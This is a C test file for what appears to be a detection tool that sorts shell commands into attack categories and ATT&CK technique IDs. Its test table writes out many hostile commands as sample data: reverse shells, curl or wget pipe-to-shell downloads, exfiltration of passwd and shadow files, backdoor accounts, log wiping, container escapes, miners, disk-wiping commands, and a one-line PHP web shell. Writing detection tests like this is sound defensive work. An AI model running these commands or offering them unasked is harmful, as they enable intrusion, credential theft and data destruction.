// SPDX-License-Identifier: GPL-3.0-or-later
/* What the shipped rows say of command lines: all of it, and nothing else. */
#include "classified.h"

static const struct row {
	const char *text; /* of sh -c */
	const char *categories, *bins, *attack;
} rows[] = {
	{ "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "reverse shell", "bash",
		"T1059|T1059.004|T1071" },
	{ "systemctl start nginx", "", "systemctl", "" },
	{ "export TERM=xterm", "", "", "" },
	{ "curl -fsSL http://1.2.3.4/x.sh | bash",
		"network connections/downloading|download and execute",
		"bash|curl", "T1059.004|T1105" },
	{ "sh -c \"$(wget -qO- http://x/y)\"",
		"network connections/downloading|download and execute", "wget",
		"T1059.004|T1105" },
	{ "bash <(curl -s http://x)",
		"network connections/downloading|download and execute",
		"bash|curl", "T1059.004|T1105" },
	{ "eval \"$(curl -s http://x)\"",
		"network connections/downloading|download and "
		"execute|obfuscation",
		"curl", "T1027|T1059.004|T1105" },
	{ "echo READY vulnerable", "file manipulation", "", "" },
	{ "nc -nve /bin/sh 1.2.3.4 99", "reverse shell", "nc",
		"T1059|T1059.004|T1071" },
	{ "rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 "
	  "1234 >/tmp/f",
		"file/process deletion/killing|reverse shell|exfiltration",
		"cat|nc", "T1048|T1059.004|T1070.004" },
	{ "python3 -c 'import "
	  "socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_"
	  "STREAM);s.connect((\"10.0.0.1\",4242));os.dup2(s.fileno(),0);"
	  "subprocess.call([\"/bin/sh\",\"-i\"])'",
		"reverse shell|execution", "python", "T1059|T1059.006|T1071" },
	{ "perl -e 'use "
	  "Socket;$i=\"10.0.0.1\";socket(S,PF_INET,SOCK_STREAM,getprotobyname("
	  "\"tcp\"));exec(\"/bin/sh -i\");'",
		"reverse shell|execution", "perl", "T1059|T1071" },
	{ "w''get http://a/b -O /tmp/k; c\\hmod +x /tmp/k; /tmp/k",
		"network connections/downloading|file manipulation|defence "
		"evasion",
		"chmod|wget", "T1105|T1222.002" },
	{ "sudo -u root vim -c ':!/bin/sh'", "privilege escalation", "sudo|vim",
		"T1059|T1548.003" },
	{ "(crontab -l; echo '* * * * * curl http://x|sh') | crontab -",
		"file manipulation|persistence", "crontab", "T1007|T1053.003" },
	{ "echo \"curl http://x/y | sh\" | bash",
		"network connections/downloading|file manipulation|download "
		"and execute",
		"bash|curl", "T1059.004|T1105" },
	{ "cat /e''tc/shadow", "credential access", "cat", "T1003.008|T1005" },
	{ "find / -perm -4000 -type f 2>/dev/null", "privilege escalation",
		"find", "T1548.001" },
	{ "find . -exec rm -rf {} \\;", "file/process deletion/killing", "find",
		"T1070.004" },
	{ "for f in a b; do chmod u+s $f; done",
		"file manipulation|privilege escalation", "chmod",
		"T1548|T1548.001" },
	{ "python3 -c 'import os; os.system(\"curl http://x | sh\")'",
		"network connections/downloading|download and "
		"execute|execution",
		"curl|python", "T1059|T1059.004|T1059.006|T1105" },
	{ "{echo,aWQ=}|{base64,-d}|{bash,-i}", "file manipulation|obfuscation",
		"base64|bash", "T1027.010|T1140" },
	{ "echo aWQ= | base64 -d | sh", "file manipulation|obfuscation",
		"base64", "T1140" },
	{ "history -c; unset HISTFILE; rm -f ~/.bash_history",
		"file/process deletion/killing|credential access|defence "
		"evasion",
		"", "T1070.003|T1070.004|T1552.003|T1690" },
	{ "xmrig -o stratum+tcp://pool.minexmr.com:4444 -u 4AA", "mining", "",
		"T1496" },
	{ "uname -a; grep -c processor /proc/cpuinfo", "host enumeration",
		"grep", "T1082|T1083" },
	{ "if true; then tar czf /tmp/a.tgz /etc; fi",
		"archive/compression programs", "tar", "T1560.001" },
	{ "git commit -m \"use tar and wget\"", "", "git", "" },
	{ "curl -s http://x | python3 -m json.tool",
		"network connections/downloading", "curl|python", "T1105" },
	{ "php -r '$sock=fsockopen(\"10.0.0.1\",1234);exec(\"/bin/sh -i <&3 "
	  ">&3 2>&3\");'",
		"reverse shell|execution", "php", "T1059|T1059.004|T1071" },
	{ "docker run -v /:/mnt --rm -it alpine chroot /mnt sh",
		"container escape", "docker", "T1059|T1611" },
	{ "nsenter --target 1 --mount --uts --ipc --net --pid -- bash",
		"container escape", "bash|nsenter", "T1059|T1611" },
	{ "openssl s_client -quiet -connect 1.2.3.4:443 | /bin/sh",
		"reverse shell", "openssl", "T1059|T1059.004|T1071" },
	{ "sh -i 5<> /dev/udp/1.2.3.4/53 0<&5", "reverse shell", "",
		"T1059.004|T1071" },
	{ "ls -la /tmp", "", "", "" },
	{ "ssh -i /home/a/.ssh/id_rsa host uptime", "discovery", "ssh",
		"T1082" },
	{ "make -j8 all", "", "make", "" },
	{ "apt-get install -y nginx", "", "apt-get", "" },
	{ "docker run -v data:/data -p 80:80 nginx", "", "docker", "" },
	{ "git clone https://github.com/a/b", "", "git", "" },
	{ "cat /etc/hostname", "", "cat", "" },
	{ "systemctl restart sshd", "", "systemctl", "" },
	{ "pip install requests", "", "pip", "" },
	{ "for i in *.c; do gcc -c $i -o ${i%.c}.o; done", "", "gcc", "" },
	{ "rm -rf /tmp/build", "file/process deletion/killing", "",
		"T1070.004" },
	{ "npm install && npm run build", "", "npm", "" },
	{ "kubectl get pods -A", "", "kubectl", "" },
	{ "grep -r foo /etc", "host enumeration", "grep", "T1083" },
	{ "ps aux | grep nginx", "host enumeration|discovery", "grep",
		"T1057|T1083" },
	{ "tail -f /var/log/syslog", "", "tail", "" },
	{ "useradd -m bob", "persistence", "", "T1136.001" },
	{ "export PATH=$PATH:/usr/local/bin", "", "", "" },
	{ "test -f /etc/passwd && echo ok", "file manipulation|discovery", "",
		"T1087.001" },
	{ "curl -sSf https://api.github.com/repos | jq .name",
		"network connections/downloading", "curl|jq", "T1105" },
	{ "find . -name '*.py' -exec grep -l foo {} +", "host enumeration",
		"find|grep", "T1083" },
	{ "python3 -m http.server 8080", "", "python", "" },
	{ "tar xzf foo.tgz -C /opt", "archive/compression programs", "tar",
		"T1560.001" },
	{ "echo \"hello world\" > /tmp/x", "file manipulation", "", "" },
	{ "journalctl -u ssh -n 20", "", "journalctl", "" },
	{ "chmod 644 file", "file manipulation", "chmod", "" },
	{ ". /etc/profile", "", "", "" },
	{ "mysqldump db | gzip > /backup/db.gz", "archive/compression programs",
		"gzip", "T1560.001" },
	{ "crontab -l", "persistence", "crontab", "T1007" },
	{ "sed -i 's/a/b/' file.txt", "file manipulation", "sed", "" },
	{ "id -u", "discovery", "", "T1033" },
	{ "nc.traditional -e /bin/bash 10.0.0.1 4444", "reverse shell", "nc",
		"T1059.004" },
	{ "ncat 10.0.0.1 443 --sh-exec /bin/bash", "reverse shell", "",
		"T1059.004" },
	{ "ncat -z 10.0.0.1 22", "discovery", "", "T1046" },
	{ "nc -lvnp 4444", "", "nc", "" },
	{ "nc -lvnp 4444 -e /bin/sh", "reverse shell|bind shell", "nc",
		"T1059|T1059.004|T1071" },
	{ "socat tcp-connect:10.0.0.1:4444 exec:/bin/sh,pty,stderr",
		"reverse shell", "socat", "T1041|T1059|T1059.004|T1071" },
	{ "exec 5<>/dev/tcp/10.0.0.1/80; cat <&5 | while read l; do $l 2>&5 "
	  ">&5; done",
		"reverse shell", "cat", "T1059.004|T1071" },
	{ "0<&196;exec 196<>/dev/tcp/10.0.0.1/53; sh <&196 >&196 2>&196",
		"reverse shell", "", "T1059.004|T1071" },
	{ "telnet 10.0.0.1 4444 | /bin/bash | telnet 10.0.0.1 4445",
		"reverse shell", "bash|telnet", "T1059.004" },
	{ "ruby -rsocket -e 'f=TCPSocket.open(\"10.0.0.1\",1234).to_i;exec "
	  "sprintf(\"/bin/sh -i <&%d >&%d\",f,f)'",
		"reverse shell|execution", "ruby", "T1059" },
	{ "awk 'BEGIN {s = \"/inet/tcp/0/10.0.0.1/4242\"; while(1) {}}'",
		"file manipulation|reverse shell", "awk", "T1059" },
	{ "lua -e 'local s=require(\"socket\");local "
	  "t=assert(s.tcp());os.execute(\"id\")'",
		"discovery|execution", "lua", "T1033|T1059|T1059.011" },
	{ "python -c 'import pty; pty.spawn(\"/bin/bash\")'",
		"reverse shell|execution", "bash|python", "T1059|T1059.006" },
	{ "mknod /tmp/p p; nc 10.0.0.1 99 0</tmp/p | /bin/sh >/tmp/p",
		"reverse shell", "nc", "T1059.004" },
	{ "wget -q http://x/m -O- | sh",
		"network connections/downloading|download and execute", "wget",
		"T1059.004|T1105" },
	{ "curl http://x/m.sh | sudo bash -s -- -y",
		"network connections/downloading|download and execute",
		"bash|curl|sudo", "T1059.004|T1105" },
	{ "curl -s http://x | tee /tmp/l | bash",
		"network connections/downloading|download and execute",
		"bash|curl|tee", "T1059.004|T1105" },
	{ "curl http://x | base64 -d | sh",
		"network connections/downloading|download and "
		"execute|obfuscation",
		"base64|curl", "T1059.004|T1105|T1140" },
	{ "python3 <(curl -s http://x/p.py)",
		"network connections/downloading|download and execute",
		"curl|python", "T1059.004|T1105" },
	{ ". <(curl -s http://x)",
		"network connections/downloading|download and execute", "curl",
		"T1059.004|T1105" },
	{ "source <(wget -qO- http://x)",
		"network connections/downloading|download and execute", "wget",
		"T1059.004|T1105" },
	{ "bash -c \"$(curl -fsSL http://x)\"",
		"network connections/downloading|download and execute",
		"bash|curl", "T1059.004|T1105" },
	{ "curl -o /tmp/k http://x/k && chmod +x /tmp/k && /tmp/k",
		"network connections/downloading|file manipulation|download "
		"and execute|defence evasion",
		"chmod|curl", "T1059.004|T1105|T1222.002" },
	{ "wget http://x/k; chmod 777 k; ./k",
		"network connections/downloading|file manipulation|download "
		"and execute",
		"chmod|wget", "T1059.004|T1105" },
	{ "perl -e 'system(\"wget http://x/y\")'",
		"network connections/downloading|execution", "perl|wget",
		"T1059|T1105" },
	{ "php -r 'echo shell_exec(\"curl http://x\");'",
		"network connections/downloading|execution", "curl|php",
		"T1059|T1105" },
	{ "node -e 'require(\"child_process\").exec(\"wget http://x\")'",
		"network connections/downloading|execution", "node|wget",
		"T1059|T1059.007|T1105" },
	{ "python3 -c 'import subprocess; "
	  "subprocess.Popen([\"curl\",\"-o\",\"/tmp/x\",\"http://h/x\"])'",
		"network connections/downloading|execution", "curl|python",
		"T1059|T1059.006|T1105" },
	{ "python3 -c 'import urllib.request as r; "
	  "exec(r.urlopen(\"http://h\").read())'",
		"download and execute|execution", "python", "T1059.006|T1105" },
	{ "python -c 'import urllib; urllib.urlopen(\"http://h\")'",
		"network connections/downloading|execution", "python",
		"T1059.006|T1105" },
	{ "scp a.txt b@host:/tmp", "ingress tool transfer", "scp",
		"T1041|T1105" },
	{ "tftp 10.0.0.1 -c get x", "ingress tool transfer", "tftp", "T1105" },
	{ "curl -T /etc/passwd ftp://h/",
		"network connections/downloading|exfiltration|discovery",
		"curl", "T1041|T1087.001|T1105|T1567" },
	{ "curl -F file=@/etc/passwd https://transfer.sh",
		"network connections/downloading|exfiltration|discovery",
		"curl", "T1041|T1087.001|T1105|T1567|T1567.002" },
	{ "tar cz /home | nc 10.0.0.1 99",
		"archive/compression programs|exfiltration", "nc|tar",
		"T1048|T1560.001" },
	{ "wget --post-file=/etc/shadow http://h/",
		"network connections/downloading|exfiltration|credential "
		"access",
		"wget", "T1003.008|T1005|T1041|T1048.003|T1105" },
	{ "echo '* * * * * root /tmp/x' >> /etc/crontab",
		"file manipulation|persistence", "", "T1053.003" },
	{ "echo x > /etc/cron.d/y", "file manipulation|persistence", "",
		"T1053.003" },
	{ "crontab /tmp/c", "persistence", "crontab", "T1053.003" },
	{ "systemctl enable evil.service", "persistence", "systemctl",
		"T1053.006|T1543.002" },
	{ "cp evil.service /etc/systemd/system/",
		"file manipulation|persistence", "cp", "T1543.002|T1565" },
	{ "echo 'ssh-rsa AAAA' >> /root/.ssh/authorized_keys",
		"file manipulation|persistence", "", "T1098.004" },
	{ "echo /tmp/l.so > /etc/ld.so.preload",
		"file manipulation|persistence", "", "T1574.006" },
	{ "useradd -o -u 0 -g 0 backdoor", "persistence", "", "T1136.001" },
	{ "usermod -aG sudo bob", "persistence", "", "T1098.007" },
	{ "echo 'bob:x' | chpasswd", "file manipulation|persistence", "",
		"T1098" },
	{ "echo 'alias ls=x' >> ~/.bashrc", "file manipulation|persistence", "",
		"T1546.004" },
	{ "insmod rootkit.ko", "persistence", "", "T1547.006" },
	{ "at now + 1 minute -f /tmp/x", "persistence", "at", "T1053.002" },
	{ "base64 /etc/shadow", "credential access", "base64",
		"T1003.008|T1005" },
	{ "sudo cat /etc/shadow", "credential access", "cat|sudo",
		"T1003.008|T1005" },
	{ "cat ~/.ssh/id_rsa", "credential access", "cat", "T1005|T1552.004" },
	{ "ssh -i ~/.ssh/id_rsa host", "", "ssh", "" },
	{ "cat ~/.aws/credentials", "credential access", "cat",
		"T1005|T1552.001" },
	{ "curl http://169.254.169.254/latest/meta-data/",
		"network connections/downloading|discovery", "curl",
		"T1082|T1105" },
	{ "kubectl get secrets -A", "credential access", "kubectl",
		"T1552.007" },
	{ "strings /proc/123/environ", "credential access", "strings",
		"T1003.007" },
	{ "tcpdump -i eth0 -w /tmp/c", "discovery", "tcpdump", "T1040" },
	{ "grep -ri password /etc", "host enumeration|credential access",
		"grep", "T1083|T1552.001" },
	{ "hashcat -m 1800 h w", "credential access", "hashcat", "T1110.002" },
	{ "export HISTFILE=/dev/null", "defence evasion", "", "T1690" },
	{ "set +o history", "defence evasion", "", "T1690" },
	{ "rm -f /var/log/auth.log",
		"file/process deletion/killing|defence evasion", "",
		"T1070.004|T1685.006" },
	{ "cat /dev/null > /var/log/wtmp", "defence evasion", "cat",
		"T1685.006" },
	{ "touch -r /bin/ls /tmp/k", "file manipulation|defence evasion", "",
		"T1070.006" },
	{ "shred -u /tmp/k", "defence evasion", "shred", "T1070.004" },
	{ "chattr +i /etc/crontab",
		"file manipulation|persistence|defence evasion", "chattr",
		"T1053.003|T1222.002" },
	{ "setenforce 0", "defence evasion", "", "T1685" },
	{ "systemctl stop auditd", "defence evasion", "systemctl", "T1685" },
	{ "pkill -f auditd", "file/process deletion/killing|defence evasion",
		"", "T1489|T1685" },
	{ "auditctl -D", "defence evasion", "", "T1685.004" },
	{ "iptables -F", "defence evasion", "", "T1686" },
	{ "ufw disable", "defence evasion", "", "T1686" },
	{ "echo 0 > /proc/sys/kernel/nmi_watchdog",
		"file manipulation|defence evasion", "", "T1685" },
	{ "chmod +x /dev/shm/.x", "file manipulation|defence evasion", "chmod",
		"T1222.002" },
	{ "LD_PRELOAD=/tmp/x.so id", "defence evasion|discovery", "",
		"T1033|T1574.006" },
	{ "chmod u+s /bin/bash", "file manipulation|privilege escalation",
		"chmod", "T1548|T1548.001" },
	{ "chmod 4755 /tmp/sh", "file manipulation|privilege escalation",
		"chmod", "T1548|T1548.001" },
	{ "bash -p", "privilege escalation", "bash", "T1548.001" },
	{ "setcap cap_setuid+ep /usr/bin/python3", "privilege escalation",
		"setcap", "T1548|T1548.001" },
	{ "getcap -r /", "privilege escalation", "", "T1548.001" },
	{ "sudo -l", "privilege escalation", "sudo", "T1033|T1548.003" },
	{ "echo 'bob ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
		"file manipulation|privilege escalation", "", "T1548.003" },
	{ "find . -exec /bin/sh \\; -quit", "", "find", "T1059" },
	{ "sudo awk 'BEGIN {system(\"/bin/sh\")}'", "file manipulation",
		"awk|sudo", "T1059" },
	{ "nsenter -t 1 -m -u -i -n sh", "container escape", "nsenter",
		"T1059|T1611" },
	{ "docker run --privileged -it alpine", "container escape", "docker",
		"T1611" },
	{ "docker -H unix:///var/run/docker.sock ps", "container escape",
		"docker", "T1611" },
	{ "chroot /host bash", "container escape", "bash|chroot",
		"T1059|T1611" },
	{ "mount /dev/sda1 /mnt", "", "mount", "" },
	{ "unshare -Ur", "container escape", "unshare", "T1611" },
	{ "ssh -o StrictHostKeyChecking=no root@10.0.0.2 id",
		"lateral movement|discovery", "ssh", "T1021.004|T1033" },
	{ "ssh -R 2222:localhost:22 h", "lateral movement", "ssh", "T1572" },
	{ "sshpass -p x ssh h", "lateral movement", "ssh|sshpass",
		"T1021.004" },
	{ "chisel client 1.2.3.4:80 R:socks", "lateral movement", "",
		"T1090|T1572" },
	{ "xmrig -o pool:3333", "mining", "", "T1496" },
	{ "./kdevtmpfsi", "mining", "", "T1496" },
	{ "sysctl -w vm.nr_hugepages=128", "mining", "sysctl", "T1496" },
	{ "pkill -9 xmrig", "file/process deletion/killing|mining", "",
		"T1489|T1496" },
	{ "wget -O /tmp/a stratum+tcp://p:1",
		"network connections/downloading|mining", "wget",
		"T1105|T1496" },
	{ "whoami", "discovery", "", "T1033" },
	{ "id", "discovery", "", "T1033" },
	{ "w", "discovery", "", "T1033" },
	{ "uname -a", "host enumeration", "", "T1082" },
	{ "nmap -sS 10.0.0.0/24", "discovery", "nmap", "T1046" },
	{ "netstat -antp", "discovery", "", "T1049" },
	{ "cat /proc/cpuinfo", "host enumeration", "cat", "T1082" },
	{ "cat /etc/os-release", "discovery", "cat", "T1082" },
	{ "curl ifconfig.me", "network connections/downloading|discovery",
		"curl", "T1016.001|T1105" },
	{ "base64 -d x | sh", "obfuscation", "base64", "T1140" },
	{ "echo 6964 | xxd -r -p | bash", "file manipulation|obfuscation",
		"bash|xxd", "T1140" },
	{ "printf '\\x69\\x64' | sh", "obfuscation", "", "T1027" },
	{ "openssl enc -d -base64 -in x | bash", "obfuscation", "bash|openssl",
		"T1140" },
	{ "rev <<< 'di' | sh", "obfuscation", "rev", "T1140" },
	{ "cat${IFS}/etc/passwd", "discovery|obfuscation", "cat",
		"T1027.010|T1087.001" },
	{ "curl -H '${jndi:ldap://h/a}' http://x",
		"network connections/downloading|obfuscation", "curl",
		"T1105|T1190" },
	{ "pwsh -enc aQBkAA==", "obfuscation|execution", "pwsh",
		"T1027.010|T1059.001" },
	{ "eval $(echo aWQ= | base64 -d)", "file manipulation|obfuscation",
		"base64", "T1027|T1140" },
	{ "nohup /tmp/x &", "execution", "nohup", "T1059.004" },
	{ "bash /tmp/x.sh", "execution", "bash", "T1059.004" },
	{ "python3 -c 'print(1)'", "execution", "python", "T1059.006" },
	{ "dd if=/dev/zero of=/dev/sda", "impact", "dd", "T1485|T1561.001" },
	{ "mkfs.ext4 /dev/sdb1", "impact", "", "T1485" },
	{ "rm -rf --no-preserve-root /", "file/process deletion/killing|impact",
		"", "T1070.004|T1485" },
	{ "userdel bob", "impact", "", "T1531" },
	{ "shutdown -h now", "impact", "", "T1529" },
	{ "busybox wget http://x", "network connections/downloading",
		"busybox|wget", "T1105" },
	{ "sudo env A=b nohup timeout 5 wget http://x",
		"network connections/downloading",
		"env|nohup|sudo|timeout|wget", "T1105" },
	{ "xargs rm < list", "file/process deletion/killing", "xargs",
		"T1070.004" },
	{ "env -i sh -c 'tar x'", "archive/compression programs", "env|tar",
		"T1059|T1560.001" },
	{ "su -c 'gzip x' bob", "archive/compression programs", "gzip|su",
		"T1560.001" },
	{ "ssh host 'uname -a; tar c /etc'",
		"host enumeration|archive/compression programs", "ssh|tar",
		"T1082|T1560.001" },
	{ "time nice -n 5 zip a b", "archive/compression programs",
		"nice|time|zip", "T1560.001" },
	{ "A=tar; $A cf x y", "archive/compression programs", "tar",
		"T1560.001" },
	{ "x=wg; y=et; $x$y http://h", "network connections/downloading",
		"wget", "T1105" },
	{ "\"wget\" h", "network connections/downloading", "wget", "T1105" },
	{ "w\\get h", "network connections/downloading", "wget", "T1105" },
	{ "'/usr/bin/wget' h", "network connections/downloading", "wget",
		"T1105" },
	{ "/usr/bin/wget h", "network connections/downloading", "wget",
		"T1105" },
	{ "echo wget curl tar", "file manipulation", "", "" },
	{ "ls wget curl", "", "", "" },
	{ "printf 'cp mv ln\\n'", "", "", "" },
	{ "tar2 x", "", "", "" },
	{ "xtar x", "", "", "" },
	{ "starter tarx wgets mycurl", "", "", "" },
	{ "systemctl restart nginx", "", "systemctl", "" },
	{ "TERM=xterm ls", "", "", "" },
	{ "echo vulnerable normal tcp", "file manipulation", "", "" },
	{ "vim.basic f", "", "vim", "" },
	{ "python3.11 -V", "", "python", "" },
	{ "gcc-12 -c x.c", "", "gcc", "" },
	{ "nodejs app.js", "", "node", "" },
	{ "netcat -z h 1", "discovery", "nc", "T1046" },
	{ "ex f", "", "ex", "" },
	{ "R -e 1", "", "R", "" },
	{ "ed f", "", "ed", "" },
	{ "as x.s", "", "as", "" },
	{ "cp a b", "file manipulation", "cp", "" },
	{ "ab -n 1 http://h/", "", "ab", "T1105" },
	{ "ln -s a b", "file manipulation", "ln", "" },
	{ "ul f", "", "ul", "" },
	{ "ip a", "discovery", "ip", "T1016" },
	{ "ss -l", "discovery", "ss", "T1049" },
	{ "pr f", "", "pr", "" },
	{ "cat <<EOF", "", "cat", "" },
	{ "wget http://x", "network connections/downloading", "wget", "T1105" },
	{ "bash <<< 'wget http://x'", "network connections/downloading",
		"bash|wget", "T1105" },
	{ "if wget x; then tar y; else zip z; fi",
		"network connections/downloading|archive/compression programs",
		"tar|wget|zip", "T1105|T1560.001" },
	{ "while rm x; do touch y; done",
		"file manipulation|file/process deletion/killing", "",
		"T1070.004" },
	{ "for i in tar zip; do :; done", "", "", "" },
	{ "case tar in tar) gzip x;; esac", "archive/compression programs",
		"gzip", "T1560.001" },
	{ "f() { wget x; }; f", "network connections/downloading", "wget",
		"T1105" },
	{ "(cd /tmp; wget x)", "network connections/downloading", "wget",
		"T1105" },
	{ "{ wget x; }", "network connections/downloading", "wget", "T1105" },
	{ "! wget x", "network connections/downloading", "wget", "T1105" },
	{ "wget x & curl y", "network connections/downloading", "curl|wget",
		"T1105" },
	{ "a=$(uname -r)", "host enumeration", "", "T1082" },
	{ "echo `uname -a`", "file manipulation|host enumeration", "",
		"T1082" },
	{ "[ -x /usr/bin/wget ] && echo yes", "file manipulation", "", "" },
	{ "command -v wget", "", "", "" },
	{ "which curl wget", "", "", "" },
	{ "type wget", "", "", "" },
	{ "# wget x", "", "", "" },
	{ "echo done # wget", "file manipulation", "", "" },
	{ "wget http://x; # tar", "network connections/downloading", "wget",
		"T1105" },
	{ "echo \"$(tar c /etc)\" | nc h 1",
		"file manipulation|archive/compression programs", "nc|tar",
		"T1560.001" },
};

static void test_rows(const struct classify_rules *rules)
{
	struct classified c;

	classified_init(&c, rules);
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		const struct row *r = &rows[i];

		check_start("%.70s", r->text);
		classified_shell(&c, r->text);
		classified_run(&c);
		CHECK_Z(classified_categories(&c), r->categories);
		CHECK_Z(classified_bins(&c), r->bins);
		CHECK_Z(classified_attack(&c), r->attack);
	}
	classified_fini(&c);
}

static const struct argv_row {
	const char *name;
	const char *argv[8];
	const char *categories, *bins;
} argv_rows[] = {
	{ "a login shell", { "-bash" }, "", "bash" },
	{ "a path", { "/usr/bin/wget", "http://x" },
		"network connections/downloading", "wget" },
	{ "a word that is an argument", { "ls", "wget" }, "", "" },
	{ "several words in an argument",
		{ "git", "commit", "-m", "wget; curl | sh" }, "", "git" },
	{ "su -c", { "su", "-c", "wget http://x" },
		"network connections/downloading", "su|wget" },
	{ "find -exec", { "find", "/", "-exec", "rm", "{}", ";" },
		"file/process deletion/killing", "find" },
	{ "busybox", { "busybox", "tar", "x" }, "archive/compression programs",
		"busybox|tar" },
	{ "env", { "env", "A=b", "zip", "a" }, "archive/compression programs",
		"env|zip" },
	{ "no program", { "bash", "-c" }, "", "bash" },
	{ "a slash", { "/" }, "", "" },
	{ "a file in an argument", { "cat", "/etc/shadow" },
		"credential access", "cat" },
	{ "a longer name", { "cat", "/etc/shadowsocks.json" }, "", "cat" },
	{ "inside of a word", { "cat", "xauthorized_keys" }, "", "cat" },
	{ "options in one", { "nc", "-nvlpe", "/bin/x" },
		"reverse shell|bind shell", "nc" },
	{ "a program of two arguments", { "ssh", "h", "wget", "http://x" },
		"network connections/downloading", "ssh|wget" },
};

static void test_argv(const struct classify_rules *rules)
{
	struct classified c;

	classified_init(&c, rules);
	for (size_t i = 0; i < sizeof(argv_rows) / sizeof(argv_rows[0]); i++) {
		const struct argv_row *r = &argv_rows[i];

		check_start("argv: %s", r->name);
		classified_event(&c, r->argv);
		classified_run(&c);
		CHECK_Z(classified_categories(&c), r->categories);
		CHECK_Z(classified_bins(&c), r->bins);
	}
	classified_fini(&c);
}

static void test_lost(const struct classify_rules *rules)
{
	struct classified c;

	classified_init(&c, rules);
	check_start("argv: a program whose record never came");
	classified_event(&c, (const char *const[]){ "bash", "-c", "", NULL });
	c.argv[2] = (struct bytes){ NULL, 0 };
	classified_run(&c);
	CHECK_Z(classified_bins(&c), "bash");
	classified_fini(&c);
}

static void test_layers(const struct classify_rules *rules)
{
	static const struct {
		const char *text;
		bool is_text;
		const char *categories, *bins;
	} layers[] = {
		{ "wget http://x", true, "network connections/downloading",
			"wget" },
		{ "wget http://x", false, "", "" },
		{ "#!/usr/bin/python3\nimport os\nos.system('rm x')\n", true,
			"file/process deletion/killing", "" },
		{ "import ftplib, tarfile as at, zipfile\nln = cp = 1\n", true,
			"", "" },
		{ "{\"cp\": \"a\", \"at\": 1}", true, "", "" },
		{ "use strict;\nmy $ln = `uname -a`;\n", true,
			"host enumeration", "" },
		{ "<?php system($_GET['c']); ?>", true, "persistence", "" },
		{ "echo d2dldA==", true, "file manipulation", "" },
		{ "", true, "", "" },
		{ "READY", true, "", "" },
	};
	struct classified c;

	classified_init(&c, rules);
	for (size_t i = 0; i < sizeof(layers) / sizeof(layers[0]); i++) {
		struct event_layer layer = { .depth = 1,
			.text = bytes_of(layers[i].text),
			.is_text = layers[i].is_text };

		check_start("layer %zu", i);
		classified_event(&c, (const char *const[]){ "x", NULL })
			->layers = &layer;
		c.ev->n_layers = 1;
		classified_run(&c);
		CHECK_Z(classified_categories(&c), layers[i].categories);
		CHECK_Z(classified_bins(&c), layers[i].bins);
		if (!layer.is_text)
			continue;
		classify_text(c.classify, c.ev, layer.text, &c.cf, &c.ev->tags);
		CHECK_Z(classified_categories(&c), layers[i].categories);
		CHECK_Z(classified_bins(&c), layers[i].bins);
	}
	classified_fini(&c);
}

/* What is open to a program depends on who runs it. */
static void test_context(const struct classify_rules *rules)
{
	static const struct {
		const char *name, *text;
		bool has;
		unsigned int uid, euid;
		const char *functions;
	} cases[] = {
		{ "nobody knows", "chmod 1 x", false, 0, 0,
			"privilege-escalation" },
		{ "an ordinary user", "chmod 1 x", true, 1000, 1000, "" },
		{ "root", "chmod 1 x", true, 0, 0, "privilege-escalation" },
		{ "sudo", "sudo chmod 1 x", true, 1000, 1000,
			"privilege-escalation" },
		{ "set-uid", "chmod 1 x", true, 1000, 0,
			"privilege-escalation" },
		{ "unprivileged", "7z x", true, 1000, 1000, "file-read" },
		{ "set-uid has none", "7z x", true, 1000, 0, "" },
		{ "set-uid alone", "agetty", true, 1000, 0, "shell" },
		{ "sudo has none", "sudo agetty", true, 1000, 1000, "" },
	};
	struct classified c;

	classified_init(&c, rules);
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		check_start("context: %s", cases[i].name);
		classified_shell(&c, cases[i].text);
		c.ev->uid.has = c.ev->euid.has = cases[i].has;
		c.ev->uid.id = cases[i].uid;
		c.ev->euid.id = cases[i].euid;
		classified_run(&c);
		if (CHECK(c.ev->tags.n_bins > 0))
			CHECK_Z(c.ev->tags.bins[0].functions,
				cases[i].functions);
	}
	classified_fini(&c);
}

#define WORDS_MAX 6

/* A program's name; one with something before or behind; a plain word. */
static const char *const names[] = { "wget", "curl", "tar", "zip", "rm", "cp",
	"as", "ed", "ex", "ar", "R", "ip", "at", "nc" };

/* Random command lines of whose every word it is known what it is. */
static void test_random(const struct classify_rules *rules)
{
	static const char *const joins[] = { "; ", " | ", " && ", "\n",
		" || " };
	static const char *const shapes[] = { "%s", "/usr/bin/%s", "x%s", "%sx",
		"_%s", "%s.sh", "./my-%s", "\"%s\"" };
	unsigned long long seed = 3;
	struct str text;
	struct classified c;

	classified_init(&c, rules);
	str_init(&text, 4096);
	check_start("10000 random command lines");
	for (unsigned int i = 0; i < check_rounds(10000); i++) {
		bool is_there[14] = { false };
		size_t n = check_below(&seed, WORDS_MAX) + 1;

		str_reset(&text);
		while (n--) {
			unsigned long long x = check_random(&seed);
			size_t name = (size_t)(x % 14);
			size_t shape = (size_t)(x >> 8) % 8;
			char word[64];

			snprintf(word, sizeof(word), "%.*s%s%s",
				(int)(strchr(shapes[shape], '%') -
					shapes[shape]),
				shapes[shape], names[name],
				strchr(shapes[shape], '%') + 2);
			if (shape < 2 || shape == 7)
				is_there[name] = true;
			str_addf(&text, "%s %s %s%s", word,
				names[(x >> 16) % 14], names[(x >> 24) % 14],
				n ? joins[(x >> 32) % 5] : "");
		}
		classified_shell(&c, str_z(&text));
		classified_run(&c);
		for (size_t j = 0; j < 14; j++) {
			bool is_told = false;

			for (size_t k = 0; k < c.ev->tags.n_bins; k++)
				is_told |= bytes_equal(c.ev->tags.bins[k].name,
					bytes_of(names[j]));
			/* rm has no page. */
			if (is_told != (is_there[j] && j != 4))
				check_fail(__LINE__, "%s in %s", names[j],
					str_z(&text));
		}
	}
	str_fini(&text);
	classified_fini(&c);
}

int main(void)
{
	struct rules *rules;
	struct str why;

	check.module = "classify";
	str_init(&why, 1 << 16);
	rules = rules_load("conf/hunt.d", "basic", &why);
	check_start("the shipped rows");
	CHECK_Z(str_bytes(&why), "");
	if (CHECK(rules)) {
		test_rows(rules->classify);
		test_argv(rules->classify);
		test_lost(rules->classify);
		test_layers(rules->classify);
		test_context(rules->classify);
		test_random(rules->classify);
	}
	rules_free(rules);
	str_fini(&why);
	return check_end();
}
